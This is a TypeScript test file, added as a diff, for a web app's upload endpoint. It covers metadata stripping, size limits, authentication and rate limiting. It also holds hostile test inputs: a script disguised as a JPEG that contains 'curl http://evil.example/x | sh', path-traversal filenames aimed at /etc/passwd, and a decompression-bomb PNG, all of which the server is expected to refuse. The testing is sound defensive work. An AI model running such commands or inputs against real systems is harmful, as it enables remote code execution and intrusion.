@@ -1,0 +1,338 @@
+// POST /api/uploads through the route module: what is accepted, what is refused (quickly, with a
+// clear message and without decoding or buffering the file), and what a stored photo looks like.
+import { readdir, readFile } from "node:fs/promises";
+import path from "node:path";
+import { eq } from "drizzle-orm";
+import type { RouterContextProvider } from "react-router";
+import sharp from "sharp";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { media, rateLimitWindows } from "#app/db/schema.ts";
+import type { AppServices } from "#app/lib/context.server.ts";
+import { consumeRateLimit } from "#app/modules/platform/rate-limit.server.ts";
+import { action, loader } from "#app/routes/api/uploads.ts";
+import { createTestDatabase, type TestDatabase } from "#app/test/database.ts";
+import { contextWith, createTestServices, type SentJob } from "#app/test/services.ts";
+import type { LocalMediaStorage } from "./local-media-storage.server.ts";
+import { mediaAvifQueue } from "./media-jobs.ts";
+import { multipart, pngBomb, signedInAccount, tinyMp4, twoToneJpeg, uploadRequest } from "./testing/media-fixtures.ts";
+import { removeTestStorage } from "./testing/remove-test-storage.ts";
+import { uploadRateLimit } from "./upload-media.server.ts";
+
+let database: TestDatabase;
+let services: AppServices;
+let context: RouterContextProvider;
+let storage: LocalMediaStorage;
+const sentJobs: SentJob[] = [];
+const accounts = { seller: { id: "", cookie: "" }, admin: { id: "", cookie: "" } };
+
+beforeAll(async () => {
+  database = await createTestDatabase();
+  services = createTestServices(database, {}, sentJobs);
+  storage = services.storage as LocalMediaStorage;
+  context = contextWith(services);
+  accounts.seller = await signedInAccount(services, "seller@example.com");
+  accounts.admin = await signedInAccount(services, "admin@example.com", "admin");
+});
+afterAll(async () => {
+  await database?.destroy();
+  await removeTestStorage(storage);
+});
+beforeEach(async () => {
+  await database.db.delete(rateLimitWindows);
+  sentJobs.length = 0;
+});
+
+function upload(request: Request): Promise<Response> {
+  return action({
+    request,
+    url: new URL(request.url),
+    pattern: "/api/uploads",
+    context,
+    params: {},
+  }) as Promise<Response>;
+}
+
+const asSeller = (
+  query: string,
+  file: Buffer,
+  part?: Parameters<typeof multipart>[1],
+  headers?: Record<string, string>,
+) => upload(uploadRequest(query, multipart(file, part), accounts.seller.cookie, headers));
+
+/** A body that arrives in 64 KB chunks with no Content-Length, as a streaming client would send it. */
+function streamed(bytes: Buffer): ReadableStream<Uint8Array> {
+  let offset = 0;
+  return new ReadableStream({
+    pull(controller) {
+      if (offset >= bytes.length) return controller.close();
+      controller.enqueue(bytes.subarray(offset, offset + 65_536));
+      offset += 65_536;
+    },
+  });
+}
+
+/** Answers a refused upload: status, message, and that it took under a second and little memory. */
+async function expectRefusal(making: () => Promise<Response>, status: number, message: string) {
+  const rssBefore = process.memoryUsage().rss;
+  const started = performance.now();
+  const response = await making();
+  const ms = performance.now() - started;
+  expect(response.status).toBe(status);
+  expect(await response.json()).toEqual({ error: message });
+  expect(ms).toBeLessThan(1000);
+  expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);
+}
+
+async function storedFiles(): Promise<string[]> {
+  const root = storage.pathOf("media");
+  const ids = await readdir(root).catch(() => [] as string[]);
+  return (
+    await Promise.all(ids.map(async (id) => (await readdir(path.join(root, id))).map((f) => `${id}/${f}`)))
+  ).flat();
+}
+
+describe("POST /api/uploads", () => {
+  it("stores a JPEG as upright WebP variants without any metadata (GPS, camera, owner), ready at once", async () => {
+    // Stored as 400×200 with EXIF orientation 6 ("rotate 90° clockwise to view"): a 200×400 portrait,
+    // red on top, blue below.
+    const jpeg = await twoToneJpeg(400, 200, { orientation: 6, withGps: true });
+    const original = await sharp(jpeg).metadata();
+    expect(original.orientation).toBe(6);
+    expect(original.exif?.includes("RoamPhone")).toBe(true);
+
+    const response = await asSeller("kind=image&purpose=listing", jpeg, { filename: "IMG_0001.JPG" });
+    expect(response.status).toBe(201);
+    const body = (await response.json()) as { id: string; kind: string; url: string; width: number; height: number };
+    expect(body).toEqual({ id: expect.any(String), kind: "image", url: `/media/${body.id}`, width: 200, height: 400 });
+
+    // Narrower than 480 px: one variant, at its own size (nothing is upscaled).
+    const files = await readdir(storage.pathOf(`media/${body.id}`));
+    expect(files).toEqual(["480.webp"]);
+    const variant = await readFile(storage.pathOf(`media/${body.id}/480.webp`));
+    const info = await sharp(variant).metadata();
+    expect(info).toMatchObject({ format: "webp", width: 200, height: 400 });
+    expect(info.exif).toBeUndefined();
+    expect(info.xmp).toBeUndefined();
+    expect(info.icc).toBeUndefined();
+    expect(info.iptc).toBeUndefined();
+    expect(info.orientation).toBeUndefined();
+    for (const marker of ["EXIF", "XMP ", "ICCP", "RoamPhone", "Owner Name"]) {
+      expect(variant.includes(marker), marker).toBe(false);
+    }
+    const { data } = await sharp(variant).raw().toBuffer({ resolveWithObject: true });
+    const pixel = (x: number, y: number) => [...data.subarray((y * 200 + x) * 3, (y * 200 + x) * 3 + 3)];
+    const [topRed, , topBlue] = pixel(100, 50);
+    const [bottomRed, , bottomBlue] = pixel(100, 350);
+    expect(topRed).toBeGreaterThan(150);
+    expect(topBlue).toBeLessThan(100);
+    expect(bottomBlue).toBeGreaterThan(150);
+    expect(bottomRed).toBeLessThan(100);
+
+    const [row] = await database.db.select().from(media).where(eq(media.id, body.id));
+    expect(row).toMatchObject({
+      ownerId: accounts.seller.id,
+      kind: "image",
+      contentType: "image/jpeg",
+      width: 200,
+      height: 400,
+      attachedTo: null,
+      avifReadyAt: null,
+    });
+    expect(sentJobs).toEqual([{ name: mediaAvifQueue, data: { mediaId: body.id } }]);
+  });
+
+  it("makes 480, 960 and 1920 px variants of a large photo", async () => {
+    const response = await asSeller("kind=image&purpose=builder", await twoToneJpeg(2400, 1600));
+    expect(response.status).toBe(201);
+    const { id } = (await response.json()) as { id: string };
+    for (const [slot, height] of [
+      [480, 320],
+      [960, 640],
+      [1920, 1280],
+    ] as const) {
+      const info = await sharp(await readFile(storage.pathOf(`media/${id}/${slot}.webp`))).metadata();
+      expect(info).toMatchObject({ width: slot, height });
+    }
+  });
+
+  it("refuses a decompression bomb (3.6 gigapixels in a tiny PNG) from its header, without decoding it", async () => {
+    const bomb = pngBomb();
+    expect(bomb.length).toBeLessThan(2000);
+    await expectRefusal(
+      () => asSeller("kind=image&purpose=listing", bomb, { filename: "bomb.png", type: "image/png" }),
+      400,
+      "Image dimensions are too large (at most 40 megapixels).",
+    );
+  });
+
+  it("refuses a script named .jpg and sent as image/jpeg: the bytes decide", async () => {
+    const script = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n".repeat(50));
+    await expectRefusal(
+      () => asSeller("kind=image&purpose=listing", script, { filename: "holiday.jpg", type: "image/jpeg" }),
+      400,
+      "Only image files are allowed.",
+    );
+    await expectRefusal(
+      () => asSeller("kind=video&purpose=listing", script, { filename: "tour.mp4", type: "video/mp4" }),
+      400,
+      "Only video files are allowed.",
+    );
+  });
+
+  it("refuses a video where a photo is asked for, and a photo where a video is", async () => {
+    await expectRefusal(() => asSeller("kind=image&purpose=listing", tinyMp4()), 400, "Only image files are allowed.");
+    await expectRefusal(
+      async () => asSeller("kind=video&purpose=builder", await twoToneJpeg(64, 64)),
+      400,
+      "Only video files are allowed.",
+    );
+  });
+
+  it("refuses oversize files while they stream in, and at once when the declared length is too large", async () => {
+    const jpegStart = await twoToneJpeg(64, 64);
+    const sixMegabytes = Buffer.concat([jpegStart, Buffer.alloc(6 * 1024 * 1024, 1)]);
+    const streamedPart = multipart(sixMegabytes);
+    await expectRefusal(
+      () =>
+        upload(
+          uploadRequest(
+            "kind=image&purpose=builder",
+            { body: streamed(streamedPart.body), contentType: streamedPart.contentType },
+            accounts.seller.cookie,
+          ),
+        ),
+      413,
+      "Image must be under 5MB.",
+    );
+    // Listing photos may be larger, up to 15 MB.
+    const sixteen = Buffer.concat([jpegStart, Buffer.alloc(16 * 1024 * 1024, 1)]);
+    const sixteenPart = multipart(sixteen);
+    await expectRefusal(
+      () =>
+        upload(
+          uploadRequest(
+            "kind=image&purpose=listing",
+            { body: streamed(sixteenPart.body), contentType: sixteenPart.contentType },
+            accounts.seller.cookie,
+          ),
+        ),
+      413,
+      "Image must be under 15MB.",
+    );
+    // A 60 MB video announced by Content-Length is refused before a byte of it is read.
+    const never = new ReadableStream<Uint8Array>({
+      pull() {
+        throw new Error("the body must not be read");
+      },
+    });
+    const response = await upload(
+      uploadRequest(
+        "kind=video&purpose=listing",
+        { body: never, contentType: "multipart/form-data; boundary=x" },
+        accounts.seller.cookie,
+        { "content-length": String(60 * 1024 * 1024) },
+      ),
+    );
+    expect(response.status).toBe(413);
+    expect(response.headers.get("connection")).toBe("close");
+    expect(await response.json()).toEqual({ error: "Video must be under 50MB." });
+    expect(await storedFiles()).not.toContain(expect.stringContaining(".upload"));
+  });
+
+  it("refuses a zero-byte file", async () => {
+    await expectRefusal(() => asSeller("kind=image&purpose=listing", Buffer.alloc(0)), 400, "The file is empty.");
+  });
+
+  it("refuses a file name that tries to leave its folder, and never uses names for storage", async () => {
+    const before = await storedFiles();
+    for (const filename of ["../../../etc/passwd.jpg", "..\\..\\boot.ini", "a/b.jpg", ".."]) {
+      await expectRefusal(
+        async () => asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32), { filename }),
+        400,
+        "Invalid file name.",
+      );
+    }
+    expect(await storedFiles()).toEqual(before);
+    // An ordinary name is accepted and ends up nowhere in the storage.
+    const response = await asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32), { filename: "van.jpg" });
+    expect(response.status).toBe(201);
+    expect((await storedFiles()).some((file) => file.includes("van"))).toBe(false);
+    expect(await readdir(storage.spoolDir)).toEqual([]);
+  });
+
+  it("refuses an undecodable photo whose first bytes look like a JPEG", async () => {
+    const jpeg = await twoToneJpeg(256, 256);
+    const broken = Buffer.concat([jpeg.subarray(0, 600), Buffer.alloc(4000, 0x55)]);
+    await expectRefusal(
+      () => asSeller("kind=image&purpose=listing", broken),
+      400,
+      "This image could not be read. Please upload a JPEG, PNG, WebP or AVIF photo.",
+    );
+  });
+
+  it("stores an MP4 as it came and answers its video URL", async () => {
+    const mp4 = tinyMp4(100_000);
+    const response = await asSeller("kind=video&purpose=listing", mp4, { filename: "tour.mp4", type: "video/mp4" });
+    expect(response.status).toBe(201);
+    const body = (await response.json()) as { id: string };
+    expect(body).toEqual({ id: body.id, kind: "video", url: `/media/${body.id}/video`, width: null, height: null });
+    expect((await readFile(storage.pathOf(`media/${body.id}/video`))).equals(mp4)).toBe(true);
+    const [row] = await database.db.select().from(media).where(eq(media.id, body.id));
+    expect(row).toMatchObject({ kind: "video", contentType: "video/mp4", byteSize: mp4.length });
+  });
+
+  it("answers JSON 401 to a visitor, 400 to a bad query, 403 for blog uploads by non-admins", async () => {
+    const jpeg = await twoToneJpeg(32, 32);
+    await expectRefusal(
+      () => upload(uploadRequest("kind=image&purpose=listing", multipart(jpeg))),
+      401,
+      "Please sign in to upload files.",
+    );
+    await expectRefusal(
+      () => asSeller("kind=pdf&purpose=listing", jpeg),
+      400,
+      "Choose kind=image or kind=video and purpose=listing, builder or blog.",
+    );
+    await expectRefusal(() => asSeller("kind=video&purpose=blog", jpeg), 400, "Videos cannot be uploaded here.");
+    await expectRefusal(
+      () => asSeller("kind=image&purpose=blog", jpeg),
+      403,
+      "Access denied. This page is for administrators only.",
+    );
+    const admin = await upload(uploadRequest("kind=image&purpose=blog", multipart(jpeg), accounts.admin.cookie));
+    expect(admin.status).toBe(201);
+    await expectRefusal(
+      () =>
+        upload(
+          uploadRequest(
+            "kind=image&purpose=listing",
+            { body: jpeg, contentType: "image/jpeg" },
+            accounts.seller.cookie,
+          ),
+        ),
+      415,
+      "Send one file in the form field 'file' (multipart/form-data).",
+    );
+    await expectRefusal(
+      () => asSeller("kind=image&purpose=listing", jpeg, { field: "photo" }),
+      400,
+      "Send one file in the form field 'file' (multipart/form-data).",
+    );
+    expect(loader().status).toBe(405);
+  });
+
+  it("limits uploads per user and answers 429 with Retry-After", async () => {
+    for (let n = 0; n < uploadRateLimit.limit; n++) {
+      await consumeRateLimit({ db: database.db, key: `upload:user:${accounts.seller.id}`, ...uploadRateLimit });
+    }
+    const response = await asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32));
+    expect(response.status).toBe(429);
+    expect(Number(response.headers.get("retry-after"))).toBeGreaterThan(0);
+    expect(await response.json()).toEqual({ error: "You have uploaded too many files. Please try again later." });
+    // Others are not affected.
+    const admin = await upload(
+      uploadRequest("kind=image&purpose=listing", multipart(await twoToneJpeg(32, 32)), accounts.admin.cookie),
+    );
+    expect(admin.status).toBe(201);
+  });
+});
